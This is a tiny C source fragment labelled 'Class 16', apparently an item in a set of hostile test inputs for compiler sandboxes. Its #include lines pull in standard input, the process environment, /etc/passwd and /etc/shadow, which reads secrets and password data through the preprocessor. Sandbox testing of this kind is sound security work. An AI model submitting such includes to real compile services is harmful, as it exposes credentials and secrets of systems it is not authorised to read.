// Class 16: includes the compiler's own input and the accounts of the machine.
#include "/dev/stdin"
#include "/proc/self/environ"
#include "/etc/passwd"
#include "/etc/shadow"
